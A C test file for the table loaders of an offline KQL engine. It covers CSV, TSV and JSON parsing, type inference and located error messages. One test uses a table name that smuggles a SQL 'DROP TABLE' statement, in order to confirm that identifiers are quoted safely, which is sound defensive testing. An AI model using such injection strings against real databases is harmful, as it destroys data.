/*
** 2026-11-28
** kqlite — offline KQL engine.
**
** Tests for the table loaders (tables/load.h): CSV/TSV edge cases, JSON and
** JSON lines, gzip, bad input (ragged rows, bad quotes, bad UTF-8, NUL
** bytes, huge fields, unparseable cells) with their exact PATH:LINE:COL
** messages, hostile names, type inference, catalogue mapping, and the
** sample tables with their planted DCRat hits. Each test writes its input
** to a temporary file under /tmp, loads it into an in-memory database and
** checks the table with plain SQL.
*/
#include <criterion/criterion.h>
#include <criterion/parameterized.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <zlib.h>
#include "catalog.h"
#include "load.h"
#include "types.h"
#include "value.h"

/*************************** helpers *****************************************/

/* Write n bytes of z to a new file /tmp/kqlload-XXXXXX<zSuffix>; returns
** its malloc'ed path. */
static char *tempFile(const char *zSuffix, const char *z, size_t n){
  char *zPath = malloc(64 + strlen(zSuffix));
  int fd;
  sprintf(zPath, "/tmp/kqlload-XXXXXX%s", zSuffix);
  fd = mkstemps(zPath, (int)strlen(zSuffix));
  cr_assert_geq(fd, 0, "mkstemps");
  cr_assert_eq(write(fd, z, n), (ssize_t)n);
  close(fd);
  return zPath;
}

/* Same, for a NUL-terminated text. */
static char *tempText(const char *zSuffix, const char *z){
  return tempFile(zSuffix, z, strlen(z));
}

/* Write z gzip-compressed to a new temporary file named with zSuffix. */
static char *tempGzip(const char *zSuffix, const char *z){
  char *zPath = tempFile(zSuffix, "", 0);
  gzFile g = gzopen(zPath, "wb");
  cr_assert_not_null(g);
  cr_assert_eq(gzwrite(g, z, (unsigned)strlen(z)), (int)strlen(z));
  gzclose(g);
  return zPath;
}

static sqlite3 *openDb(void){
  sqlite3 *db = 0;
  cr_assert_eq(sqlite3_open(":memory:", &db), SQLITE_OK);
  return db;
}

/* Load zPath as table zTable; asserts success; returns the schema. */
static KqlLoadSchema *loadOk(sqlite3 *db, const char *zPath, const char *zTable,
                             const KqlTableDef *pDef){
  KqlLoadSchema *pSchema = 0;
  char *zErr = 0;
  int rc = kqlLoadFile(db, zPath, zTable, pDef, &pSchema, &zErr);
  cr_assert_eq(rc, SQLITE_OK, "load %s failed: %s", zPath, zErr ? zErr : "?");
  cr_assert_null(zErr);
  cr_assert_not_null(pSchema);
  return pSchema;
}

/* Load zPath and expect failure; returns the message with the path
** replaced by "F" (malloc'ed). */
static char *loadErr(sqlite3 *db, const char *zPath, const char *zTable,
                     const KqlTableDef *pDef){
  KqlLoadSchema *pSchema = 0;
  char *zErr = 0, *zOut;
  size_t nPath = strlen(zPath);
  int rc = kqlLoadFile(db, zPath, zTable, pDef, &pSchema, &zErr);
  cr_assert_neq(rc, SQLITE_OK, "load of %s should fail", zPath);
  cr_assert_null(pSchema);
  cr_assert_not_null(zErr);
  cr_assert_eq(strncmp(zErr, zPath, nPath), 0, "message lacks the path: %s", zErr);
  zOut = malloc(strlen(zErr) - nPath + 2);
  sprintf(zOut, "F%s", zErr + nPath);
  free(zErr);
  return zOut;
}

/* First column of the first row of zSql as text (malloc'ed); "NULL" for a
** SQL NULL, "(no row)" when there is none. */
static char *q1(sqlite3 *db, const char *zSql){
  sqlite3_stmt *pStmt = 0;
  char *zOut;
  int rc = sqlite3_prepare_v2(db, zSql, -1, &pStmt, 0);
  cr_assert_eq(rc, SQLITE_OK, "%s: %s", zSql, sqlite3_errmsg(db));
  if( sqlite3_step(pStmt)!=SQLITE_ROW ){
    zOut = strdup("(no row)");
  }else if( sqlite3_column_type(pStmt, 0)==SQLITE_NULL ){
    zOut = strdup("NULL");
  }else{
    const char *z = (const char*)sqlite3_column_text(pStmt, 0);
    int n = sqlite3_column_bytes(pStmt, 0);
    zOut = malloc((size_t)n+1);
    memcpy(zOut, z, (size_t)n);
    zOut[n] = 0;
  }
  sqlite3_finalize(pStmt);
  return zOut;
}

/* Expect zSql's first value to be zWant. */
#define EXPECT_Q(db, zSql, zWant) do{ \
  char *zGot_ = q1(db, zSql); \
  cr_expect_str_eq(zGot_, zWant, "%s", zSql); \
  free(zGot_); \
}while(0)

static long long qInt(sqlite3 *db, const char *zSql){
  char *z = q1(db, zSql);
  long long v = atoll(z);
  free(z);
  return v;
}

/* Ticks of a datetime text, as value.c parses it. */
static long long ticks(const char *z){
  int64_t t = 0;
  cr_assert_eq(kqlValParseDatetime(z, -1, &t), 0, "%s", z);
  return (long long)t;
}

/* Index of column zName in the schema, or -1. */
static int schemaCol(const KqlLoadSchema *p, const char *zName){
  for(int i=0; i<p->nCol; i++) if( strcmp(p->azName[i], zName)==0 ) return i;
  return -1;
}

static void cleanup(sqlite3 *db, KqlLoadSchema *pSchema, char *zPath){
  kqlLoadSchemaFree(pSchema);
  if( zPath ){ unlink(zPath); free(zPath); }
  sqlite3_close(db);
}

/*************************** CSV **********************************************/

Test(loaders, csv_basic_inference){
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv",
    "n,r,s,b,d,j\n"
    "1,1.5,x,true,2026-06-03T08:15:00Z,{\"a\": 1}\n"
    "-2,2,y,False,2026-06-03 08:15:00.5,\"[1, 2]\"\n"
    "30,-3e2,z,TRUE,2026-06-04,{}\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
  cr_assert_eq(p->nCol, 6);
  cr_expect_eq(p->nRow, 3);
  cr_expect_str_eq(p->azName[0], "n");
  cr_expect_eq(p->aeType[0], KQL_T_LONG);
  cr_expect_eq(p->aeType[1], KQL_T_REAL);
  cr_expect_eq(p->aeType[2], KQL_T_STRING);
  cr_expect_eq(p->aeType[3], KQL_T_BOOL);
  cr_expect_eq(p->aeType[4], KQL_T_DATETIME);
  cr_expect_eq(p->aeType[5], KQL_T_DYNAMIC);
  EXPECT_Q(db, "SELECT sum(n) FROM t", "29");
  EXPECT_Q(db, "SELECT typeof(n)||typeof(r)||typeof(s)||typeof(b)||typeof(d) FROM t LIMIT 1",
           "integerrealtextintegerinteger");
  EXPECT_Q(db, "SELECT group_concat(b) FROM t", "1,0,1");
  EXPECT_Q(db, "SELECT r FROM t WHERE n=30", "-300.0");
  cr_expect_eq(qInt(db, "SELECT d FROM t WHERE n=1"), ticks("2026-06-03T08:15:00Z"));
  cr_expect_eq(qInt(db, "SELECT d FROM t WHERE n=-2"), ticks("2026-06-03T08:15:00.5Z"));
  EXPECT_Q(db, "SELECT group_concat(j, ' ') FROM t", "{\"a\":1} [1,2] {}");
  cleanup(db, p, zPath);
}

Test(loaders, csv_bom_crlf){
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv", "\xEF\xBB\xBF" "a,b\r\nx,1\r\ny,2\r\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
  cr_expect_str_eq(p->azName[0], "a");
  cr_expect_eq(p->aeType[1], KQL_T_LONG);
  EXPECT_Q(db, "SELECT group_concat(a || '|' || b, ';') FROM t", "x|1;y|2");
  cleanup(db, p, zPath);
}

Test(loaders, csv_quoted_fields){
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv",
    "id,msg,other\r\n"
    "1,\"a, b\",x\r\n"
    "2,\"line one\r\nline two\nline three\",y\r\n"
    "3,\"say \"\"hi\"\"\",\"\"\r\n"
    "4,\"\",\"\"\"\"\r\n"
    "5,plain \"inner\" quotes,z");
  KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
  cr_expect_eq(p->nRow, 5);
  EXPECT_Q(db, "SELECT msg FROM t WHERE id=1", "a, b");
  EXPECT_Q(db, "SELECT msg FROM t WHERE id=2", "line one\r\nline two\nline three");
  EXPECT_Q(db, "SELECT msg FROM t WHERE id=3", "say \"hi\"");
  EXPECT_Q(db, "SELECT other FROM t WHERE id=3", "");
  EXPECT_Q(db, "SELECT typeof(other) FROM t WHERE id=3", "text");
  EXPECT_Q(db, "SELECT other FROM t WHERE id=4", "\"");
  EXPECT_Q(db, "SELECT msg FROM t WHERE id=5", "plain \"inner\" quotes");
  EXPECT_Q(db, "SELECT other FROM t WHERE id=5", "z");
  cleanup(db, p, zPath);
}

Test(loaders, csv_blank_lines_skipped_and_counted){
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv", "\na,b\n\n1,2\r\n\r\n3,4\n\n5\n");
  char *zErr = loadErr(db, zPath, "t", 0);
  /* the ragged record is on line 8 */
  cr_expect_str_eq(zErr, "F:8:2: record has 1 field but the header has 2");
  free(zErr);
  cleanup(db, 0, zPath);
}

Test(loaders, csv_empty_cells){
  const KqlTableDef *pDef = kqlCatalogFind("CommonSecurityLog", -1);
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv",
    "TimeGenerated,DestinationIP,DestinationPort,Extra,ExtraNum\n"
    "2026-06-03T00:00:00Z,,,,1\n"
    ",1.2.3.4,443,,\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", pDef);
  int iExtra = schemaCol(p, "Extra");
  cr_expect_eq(p->nCol, pDef->nCol + 2);
  cr_expect_eq(iExtra, pDef->nCol);
  cr_expect_eq(p->aeType[iExtra], KQL_T_STRING);
  cr_expect_eq(p->aeType[iExtra+1], KQL_T_LONG);
  EXPECT_Q(db, "SELECT quote(\"DestinationIP#1081\")||quote(DestinationPort)||quote(Extra)||quote(ExtraNum)"
               " FROM t WHERE TimeGenerated IS NOT NULL", "''NULL''1");
  EXPECT_Q(db, "SELECT quote(TimeGenerated)||quote(ExtraNum) FROM t WHERE DestinationPort=443",
           "NULLNULL");
  /* catalogue columns absent from the file: "" for strings, NULL otherwise */
  EXPECT_Q(db, "SELECT count(*) FROM t WHERE Activity='' AND ReceivedBytes IS NULL"
               " AND StartTime IS NULL", "2");
  cleanup(db, p, zPath);
}

Test(loaders, csv_ragged_and_quote_errors){
  static const struct { const char *zIn; const char *zWant; } aCase[] = {
    {"a,b\n1,2\n3\n",                 "F:3:2: record has 1 field but the header has 2"},
    {"a,b\r\n1,2\r\n3,4,5\r\n",       "F:3:5: record has 3 fields but the header has 2"},
    {"a,b\n1,\"2\n3,4\n",             "F:2:3: unterminated quoted field (no closing '\"')"},
    {"a,b\n1,\"2\"x\n",               "F:2:6: unexpected character after closing quote "
                                      "(a quote inside a quoted field must be doubled)"},
    {"a,b\n\"multi\nline\",1\n\"x\",2,3\n",
                                      "F:4:7: record has 3 fields but the header has 2"},
    {"a,b\n\xc3\xa9\xc3\xa9,\xff\n",  "F:2:4: invalid UTF-8 (byte 0xFF)"},
    {"a,b\n1,\xc0\x80\n",             "F:2:3: invalid UTF-8 (byte 0xC0)"},
    {"a,b\n1,\xed\xa0\x80\n",         "F:2:3: invalid UTF-8 (byte 0xED)"},
    {"a,b\n1,\xe2\x82\n",             "F:2:3: invalid UTF-8 (byte 0xE2)"},
  };
  for(unsigned i=0; i<sizeof(aCase)/sizeof(aCase[0]); i++){
    sqlite3 *db = openDb();
    char *zPath = tempText(".csv", aCase[i].zIn);
    char *zErr = loadErr(db, zPath, "t", 0);
    cr_expect_str_eq(zErr, aCase[i].zWant, "case %u", i);
    /* a failed load leaves no table behind */
    EXPECT_Q(db, "SELECT count(*) FROM sqlite_schema", "0");
    free(zErr);
    cleanup(db, 0, zPath);
  }
}

Test(loaders, nul_byte_is_an_error){
  sqlite3 *db = openDb();
  char *zPath = tempFile(".csv", "a,b\n1,x\0y\n", 10);
  char *zErr = loadErr(db, zPath, "t", 0);
  cr_expect_str_eq(zErr, "F:2:4: NUL byte in input");
  free(zErr);
  cleanup(db, 0, zPath);
}

Test(loaders, tsv_simple_quoting){
  sqlite3 *db = openDb();
  char *zPath = tempText(".tsv",
    "name\tvalue\tnote\n"
    "a\t1\t\"quoted, with\ttab\"\n"
    "b\t2\tsay \"hi\" there\n"
    "c\t3\t\"open quote only\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
  cr_expect_eq(p->nRow, 3);
  cr_expect_eq(p->aeType[1], KQL_T_LONG);
  EXPECT_Q(db, "SELECT note FROM t WHERE \"name#0\"='a'", "quoted, with\ttab");
  EXPECT_Q(db, "SELECT note FROM t WHERE \"name#0\"='b'", "say \"hi\" there");
  EXPECT_Q(db, "SELECT note FROM t WHERE \"name#0\"='c'", "\"open quote only");
  cleanup(db, p, zPath);
}

/*************************** type conversion **********************************/

Test(loaders, catalogue_types_convert_leniently){
  static const KqlColDef aCol[] = {
    {"i", KQL_T_INT}, {"l", KQL_T_LONG}, {"r", KQL_T_REAL}, {"b", KQL_T_BOOL},
    {"ts", KQL_T_TIMESPAN}, {"g", KQL_T_GUID}, {"dy", KQL_T_DYNAMIC}, {"s", KQL_T_STRING},
  };
  static const KqlTableDef def = {"T", 8, aCol};
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv",
    "id,i,l,r,b,ts,g,dy,s\n"
    "1, 42 ,1.0,NaN,True,1.02:03:04,0E3A5C6D-1234-4ABC-9DEF-0123456789AB,\"{ \"\"k\"\" : [1, 2] }\",007\n"
    "2,-7,2e3,-Infinity,0,30m,,plain text,\n"
    "3,,,  1.25 ,FALSE,,,\"\"\"q\"\"\",x\n"
    "4,0,9223372036854775807,1e-3,1,-00:00:01,,42,\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", &def);
  cr_expect_eq(p->nCol, 9);
  cr_expect_str_eq(p->azName[8], "id");
  EXPECT_Q(db, "SELECT i||'|'||l||'|'||quote(r)||'|'||b||'|'||ts||'|'||g||'|'||dy||'|'||s FROM t WHERE id=1",
           "42|1|'NaN'|1|937840000000|0e3a5c6d-1234-4abc-9def-0123456789ab|{\"k\":[1,2]}|007");
  EXPECT_Q(db, "SELECT i||'|'||l||'|'||r||'|'||b||'|'||ts||'|'||quote(g)||'|'||dy||'|'||quote(s) FROM t WHERE id=2",
           "-7|2000|-Inf|0|18000000000|NULL|\"plain text\"|''");
  EXPECT_Q(db, "SELECT quote(i)||quote(l)||r||b||quote(ts)||quote(dy) FROM t WHERE id=3",
           "NULLNULL1.250NULL'\"q\"'");
  EXPECT_Q(db, "SELECT l||'|'||r||'|'||b||'|'||ts||'|'||dy FROM t WHERE id=4",
           "9223372036854775807|0.001|1|-10000000|42");
  EXPECT_Q(db, "SELECT json_type(dy) FROM t WHERE id=2", "text");
  cleanup(db, p, zPath);
}

Test(loaders, conversion_errors_name_the_column){
  static const KqlColDef aCol[] = {
    {"When", KQL_T_DATETIME}, {"Port", KQL_T_INT}, {"Ok", KQL_T_BOOL},
    {"Ratio", KQL_T_REAL}, {"Id", KQL_T_GUID}, {"Dur", KQL_T_TIMESPAN},
  };
  static const KqlTableDef def = {"T", 6, aCol};
  static const struct { const char *zIn; const char *zWant; } aCase[] = {
    {"When,Port\n2026-06-03,1\nnope,2\n",
     "F:3:1: cannot parse datetime \"nope\" for column When"},
    {"Port,When\n1,2026-06-03\n2,2026-13-45T00:00:00Z\n",
     "F:3:3: cannot parse datetime \"2026-13-45T00:00:00Z\" for column When"},
    {"When,Port\n2026-06-03,\"12,5\"\n",
     "F:2:12: cannot parse int \"12,5\" for column Port"},
    {"Port\n1.5\n", "F:2:1: cannot parse int \"1.5\" for column Port"},
    {"Port\n3000000000\n", "F:2:1: cannot parse int \"3000000000\" for column Port (out of range)"},
    {"Ok\nyes\n", "F:2:1: cannot parse bool \"yes\" for column Ok"},
    {"Ratio\n1,5\n", "F:2:3: record has 2 fields but the header has 1"},
    {"Ratio\n0x10\n", "F:2:1: cannot parse real \"0x10\" for column Ratio"},
    {"Id\nnot-a-guid\n", "F:2:1: cannot parse guid \"not-a-guid\" for column Id"},
    {"Dur\n5 parsecs\n", "F:2:1: cannot parse timespan \"5 parsecs\" for column Dur"},
    {"x,When\n\xc3\xa9\xc3\xa9,\"multi\nline\"\n", "F:2:4: cannot parse datetime \"multi\\nline\" for column When"},
  };
  for(unsigned i=0; i<sizeof(aCase)/sizeof(aCase[0]); i++){
    sqlite3 *db = openDb();
    char *zPath = tempText(".csv", aCase[i].zIn);
    char *zErr = loadErr(db, zPath, "t", &def);
    cr_expect_str_eq(zErr, aCase[i].zWant, "case %u", i);
    free(zErr);
    cleanup(db, 0, zPath);
  }
}

Test(loaders, inference_never_changes_text){
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv",
    "zip,plus,space,big,real,frac,nan,word\n"
    "007,+5, 12,99999999999999999999,1.50,0.5,NaN,true\n"
    "010,+6,13,1,2,1.25,1,1\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
  for(int i=0; i<4; i++) cr_expect_eq(p->aeType[i], KQL_T_STRING, "%s", p->azName[i]);
  cr_expect_eq(p->aeType[4], KQL_T_REAL);
  cr_expect_eq(p->aeType[5], KQL_T_REAL);
  cr_expect_eq(p->aeType[6], KQL_T_STRING);
  cr_expect_eq(p->aeType[7], KQL_T_STRING);
  EXPECT_Q(db, "SELECT zip||plus||space||big||nan||word FROM t LIMIT 1",
           "007+5 1299999999999999999999NaNtrue");
  cleanup(db, p, zPath);
}

/* More rows than the sample: a late value that does not fit the type the
** sample chose widens the column, and every earlier cell keeps its text. */
Test(loaders, inference_late_value_widens){
  sqlite3 *db = openDb();
  size_t nAlloc = 200000, n = 0;
  char *z = malloc(nAlloc);
  char *zPath;
  KqlLoadSchema *p;
  n += (size_t)sprintf(z+n, "n,when,ok,num\n");
  for(int i=0; i<3000; i++){
    n += (size_t)sprintf(z+n, "%d,2026-06-03T00:%02d:00Z,%s,%d\n", i, i%60, i%2 ? "true" : "false", i);
  }
  n += (size_t)sprintf(z+n, "x3000,not a date,maybe,2.5\n");
  zPath = tempFile(".csv", z, n);
  p = loadOk(db, zPath, "t", 0);
  cr_expect_eq(p->nRow, 3001);
  cr_expect_eq(p->aeType[0], KQL_T_STRING);
  cr_expect_eq(p->aeType[1], KQL_T_STRING);
  cr_expect_eq(p->aeType[2], KQL_T_STRING);
  cr_expect_eq(p->aeType[3], KQL_T_REAL);
  EXPECT_Q(db, "SELECT n||'|'||\"when\"||'|'||ok||'|'||num FROM t WHERE rowid=2",
           "1|2026-06-03T00:01:00Z|true|1.0");
  EXPECT_Q(db, "SELECT n||'|'||\"when\"||'|'||ok||'|'||num FROM t WHERE rowid=3001",
           "x3000|not a date|maybe|2.5");
  EXPECT_Q(db, "SELECT count(DISTINCT typeof(n)) FROM t", "1");
  free(z);
  cleanup(db, p, zPath);
}

/*************************** names and mapping ********************************/

Test(loaders, portal_header_suffix_and_case){
  const KqlTableDef *pDef = kqlCatalogFind("CommonSecurityLog", -1);
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv",
    "TimeGenerated [UTC],destinationport,DestinationIP,Note [x]\n"
    "\"6/3/2026, 8:15:00.123 AM\",12159,156.247.40.190,n\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", pDef);
  cr_expect_eq(p->nCol, pDef->nCol + 1);
  cr_expect_str_eq(p->azName[pDef->nCol], "Note");
  cr_expect_eq(qInt(db, "SELECT TimeGenerated FROM t"), ticks("2026-06-03T08:15:00.123Z"));
  EXPECT_Q(db, "SELECT typeof(DestinationPort)||DestinationPort FROM t", "integer12159");
  kqlLoadSchemaFree(p);
  sqlite3_close(db);
  /* without the catalogue the suffix is still dropped and the type inferred
  ** ("[UTC]" lets the portal's "6/3/2026, 8:15:00.123 AM" count as a datetime) */
  db = openDb();
  p = loadOk(db, zPath, "t", 0);
  cr_expect_str_eq(p->azName[0], "TimeGenerated");
  cr_expect_eq(p->aeType[0], KQL_T_DATETIME);    /* "[UTC]": a portal datetime column */
  cr_expect_str_eq(p->azName[1], "destinationport");
  cr_expect_eq(p->aeType[1], KQL_T_LONG);
  cleanup(db, p, zPath);
}

Test(loaders, duplicate_and_empty_header_names){
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv", "a,A,a,,b\n1,2,3,4,5\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
  cr_assert_eq(p->nCol, 5);
  cr_expect_str_eq(p->azName[0], "a");
  cr_expect_str_eq(p->azName[1], "A1");
  cr_expect_str_eq(p->azName[2], "a2");
  cr_expect_str_eq(p->azName[3], "Column4");
  EXPECT_Q(db, "SELECT a||A1||a2||Column4||b FROM t", "12345");
  cleanup(db, p, zPath);
}

Test(loaders, hostile_table_and_column_names){
  static const char zTable[] = "t\"; DROP TABLE x; --\n[]`'";
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv",
    "\"we\"\"ird\",\"semi;colon\",\"new\nline\",\"sp ace\",select\n"
    "1,2,3,4,5\n");
  KqlLoadSchema *p = loadOk(db, zPath, zTable, 0);
  char *zSql;
  cr_assert_eq(p->nCol, 5);
  cr_expect_str_eq(p->azName[0], "we\"ird");
  cr_expect_str_eq(p->azName[2], "new\nline");
  zSql = sqlite3_mprintf("SELECT \"%w\"||\"%w\"||\"%w\"||\"%w\"||\"%w\" FROM \"%w\"",
                         p->azName[0], p->azName[1], p->azName[2], p->azName[3],
                         p->azName[4], zTable);
  EXPECT_Q(db, zSql, "12345");
  sqlite3_free(zSql);
  EXPECT_Q(db, "SELECT count(*) FROM sqlite_schema", "1");
  cleanup(db, p, zPath);
}

Test(loaders, existing_table_is_an_error){
  sqlite3 *db = openDb();
  char *zPath = tempText(".csv", "a\n1\n");
  char *zErr;
  sqlite3_exec(db, "CREATE TABLE t(x); INSERT INTO t VALUES(7)", 0, 0, 0);
  zErr = loadErr(db, zPath, "t", 0);
  cr_expect_str_eq(zErr, "F: cannot create table: table \"t\" already exists");
  EXPECT_Q(db, "SELECT x FROM t", "7");
  free(zErr);
  cleanup(db, 0, zPath);
}

Test(loaders, empty_files){
  const KqlTableDef *pDef = kqlCatalogFind("DeviceNetworkEvents", -1);
  static const char *const azSuffix[] = {".csv", ".jsonl", ".json"};
  static const char *const azBody[] = {"", "\n\n", "[]"};
  for(int i=0; i<3; i++){
    sqlite3 *db = openDb();
    char *zPath = tempText(azSuffix[i], azBody[i]);
    KqlLoadSchema *p = loadOk(db, zPath, "t", pDef);
    char *zErr;
    cr_expect_eq(p->nCol, pDef->nCol);
    cr_expect_eq(p->nRow, 0);
    EXPECT_Q(db, "SELECT count(*) FROM t", "0");
    kqlLoadSchemaFree(p);
    zErr = loadErr(db, zPath, "t2", 0);
    cr_expect_str_eq(zErr, "F: no columns: the file has no header or records");
    free(zErr);
    cleanup(db, 0, zPath);
  }
}

Test(loaders, missing_file){
  sqlite3 *db = openDb();
  char *zErr = 0;
  KqlLoadSchema *p = 0;
  int rc = kqlLoadFile(db, "/tmp/kqlload-no-such-file.csv", "t", 0, &p, &zErr);
  cr_expect_eq(rc, SQLITE_CANTOPEN);
  cr_expect_str_eq(zErr, "/tmp/kqlload-no-such-file.csv: cannot open: No such file or directory");
  free(zErr);
  rc = kqlLoadFile(db, "/tmp", "t", 0, &p, &zErr);
  cr_expect_eq(rc, SQLITE_CANTOPEN);
  cr_expect_str_eq(zErr, "/tmp: cannot open: is a directory");
  free(zErr);
  sqlite3_close(db);
}

/*************************** JSON *********************************************/

Test(loaders, jsonl_basic){
  sqlite3 *db = openDb();
  char *zPath = tempText(".jsonl",
    "{\"a\": 1, \"s\": \"x\\u00e9\\n\\\"q\\\"\", \"o\": {\"k\" : [1, 2.50, \"v\"]}, \"b\": true}\n"
    "\n"
    "  {\"a\": 2, \"s\": \"\\ud83d\\ude00\", \"b\": false, \"n\": null}  \r\n"
    "{\"s\": \"\", \"a\": 3, \"late\": 1.5}");
  KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
  cr_assert_eq(p->nCol, 6);
  cr_expect_eq(p->nRow, 3);
  cr_expect_str_eq(p->azName[3], "b");
  cr_expect_eq(p->aeType[0], KQL_T_LONG);
  cr_expect_eq(p->aeType[1], KQL_T_STRING);
  cr_expect_eq(p->aeType[2], KQL_T_DYNAMIC);
  cr_expect_eq(p->aeType[3], KQL_T_BOOL);
  cr_expect_eq(p->aeType[4], KQL_T_STRING);    /* only nulls */
  cr_expect_eq(p->aeType[5], KQL_T_REAL);
  EXPECT_Q(db, "SELECT s FROM t WHERE a=1", "x\xc3\xa9\n\"q\"");
  EXPECT_Q(db, "SELECT s FROM t WHERE a=2", "\xf0\x9f\x98\x80");
  EXPECT_Q(db, "SELECT o FROM t WHERE a=1", "{\"k\":[1,2.50,\"v\"]}");
  EXPECT_Q(db, "SELECT quote(o)||quote(n)||quote(late) FROM t WHERE a=2", "NULL''NULL");
  EXPECT_Q(db, "SELECT group_concat(b) FROM t", "1,0");
  cleanup(db, p, zPath);
}

Test(loaders, json_array_any_layout){
  sqlite3 *db = openDb();
  char *zPath = tempText(".json",
    "\xEF\xBB\xBF[\n"
    "  {\n    \"Timestamp\": \"2026-06-03T08:15:04.1234567Z\",\n    \"RemotePort\": 12159,\n"
    "    \"RemoteIP\": \"156.247.40.190\",\n    \"AdditionalFields\": \"{\\\"a\\\": [1]}\"\n  },\n"
    "  {\"Timestamp\": \"2026-06-03 08:20\", \"RemotePort\": \"443\", \"remoteip\": \"x\","
    " \"AdditionalFields\": {\"b\" :true}, \"IsInitiatingProcessRemoteSession\": 1}\n"
    "]\n");
  const KqlTableDef *pDef = kqlCatalogFind("DeviceNetworkEvents", -1);
  KqlLoadSchema *p = loadOk(db, zPath, "t", pDef);
  cr_expect_eq(p->nRow, 2);
  cr_expect_eq(p->nCol, pDef->nCol);
  cr_expect_eq(qInt(db, "SELECT Timestamp FROM t WHERE RemotePort=12159"),
               ticks("2026-06-03T08:15:04.1234567Z"));
  EXPECT_Q(db, "SELECT \"RemoteIP#1c\"||'|'||AdditionalFields FROM t WHERE RemotePort=443", "x|{\"b\":true}");
  /* a string holding an object becomes the object (Log Analytics exports) */
  EXPECT_Q(db, "SELECT AdditionalFields FROM t WHERE RemotePort=12159", "{\"a\":[1]}");
  EXPECT_Q(db, "SELECT quote(IsInitiatingProcessRemoteSession) FROM t ORDER BY rowid",
           "NULL");
  EXPECT_Q(db, "SELECT IsInitiatingProcessRemoteSession FROM t WHERE RemotePort=443", "1");
  cleanup(db, p, zPath);
}

/* Nested values are stored exactly as SQLite's json() renders them. */
Test(loaders, dynamic_matches_sqlite_json){
  sqlite3 *db = openDb();
  char *zPath = tempText(".jsonl",
    "{\"v\": { \"a\" : 1 , \"b\" : [ true , false , null ] }}\n"
    "{\"v\": [ 1.5e10 , -0 , \"\\u0041\\/\\n\" , { } , [ ] ]}\n"
    "{\"v\": {\"dup\":1,\"dup\":2, \"deep\": [[[[{\"x\":\"\xc3\xa9\"}]]]]}}\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
  cr_expect_eq(p->aeType[0], KQL_T_DYNAMIC);
  EXPECT_Q(db, "SELECT count(*) FROM t WHERE v = json(v) AND json_valid(v)", "3");
  EXPECT_Q(db, "SELECT v FROM t WHERE rowid=2", "[1.5e10,-0,\"\\u0041\\/\\n\",{},[]]");
  cleanup(db, p, zPath);
}

Test(loaders, json_mixed_types_widen){
  sqlite3 *db = openDb();
  char *zPath = tempText(".jsonl",
    "{\"i\": 1, \"m\": 1, \"o\": \"s\", \"d\": \"2026-06-03\", \"big\": 1}\n"
    "{\"i\": 2, \"m\": \"two\", \"o\": {\"k\": 1}, \"d\": \"2026-06-04T01:02:03Z\", \"big\": 12345678901234567890}\n");
  KqlLoadSchema *p = loadOk(db, zPath, "t", 0);
  cr_expect_eq(p->aeType[0], KQL_T_LONG);
  cr_expect_eq(p->aeType[1], KQL_T_STRING);
  cr_expect_eq(p->aeType[2], KQL_T_DYNAMIC);
  cr_expect_eq(p->aeType[3], KQL_T_DATETIME);
  cr_expect_eq(p->aeType[4], KQL_T_STRING);
  EXPECT_Q(db, "SELECT group_concat(m||'/'||o||'/'||big, ' ') FROM t",
           "1/\"s\"/1 two/{\"k\":1}/12345678901234567890");
  cleanup(db, p, zPath);
}

Test(loaders, json_late_key_and_late_object){
  sqlite3 *db = openDb();
  size_t nAlloc = 200000, n = 0;
  char *z = malloc(nAlloc);
  char *zPath;
  KqlLoadSchema *p;
  for(int i=0; i<2500; i++) n += (size_t)sprintf(z+n, "{\"n\":%d,\"s\":\"v%d\"}\n", i, i);
  n += (size_t)sprintf(z+n, "{\"n\":2500,\"s\":{\"obj\":true},\"late\":\"2026-06-01\"}\n");
  zPath = tempFile(".ndjson", z, n);
  p = loadOk(db, zPath, "t", 0);
  cr_assert_eq(p->nCol, 3);
  cr_expect_eq(p->nRow, 2501);
  cr_expect_eq(p->aeType[1], KQL_T_DYNAMIC);
  cr_expect_str_eq(p->azName[2], "late");
  cr_expect_eq(p->aeType[2], KQL_T_DATETIME);
  EXPECT_Q(db, "SELECT s FROM t WHERE n=7", "\"v7\"");
  EXPECT_Q(db, "SELECT s FROM t WHERE n=2500", "{\"obj\":true}");
  EXPECT_Q(db, "SELECT count(late) FROM t", "1");
  free(z);
  cleanup(db, p, zPath);
}

Test(loaders, json_errors_are_located){
  static const struct { const char *zSuffix; const char *zIn; const char *zWant; } aCase[] = {
    {".jsonl", "{\"a\":1}\n{\"a\":2,}\n", "F:2:8: expected a string key in JSON object"},
    {".jsonl", "{\"a\":1}\n{\"a\":2\n{\"a\":3}\n", "F:2:7: unexpected end of line in JSON object"},
    {".jsonl", "{\"a\":1} {\"a\":2}\n", "F:1:9: expected end of line after JSON object (JSON lines: one object per line)"},
    {".jsonl", "{\"a\":\"x\\q\"}\n", "F:1:8: invalid escape in JSON string"},
    {".jsonl", "{\"a\":01}\n", "F:1:7: expected ',' or '}' in JSON object"},
    {".jsonl", "{\"a\":tru}\n", "F:1:6: unexpected character in JSON"},
    {".jsonl", "{\"a\":\"\\u0000\"}\n", "F:1:7: \\u0000 (NUL) in a JSON string cannot be loaded"},
    {".jsonl", "{\"a\":\"\\ud800\"}\n", "F:1:7: unpaired surrogate in \\u escape"},
    {".jsonl", "{\"a\":\"tab\there\"}\n", "F:1:10: control character in JSON string (must be escaped)"},
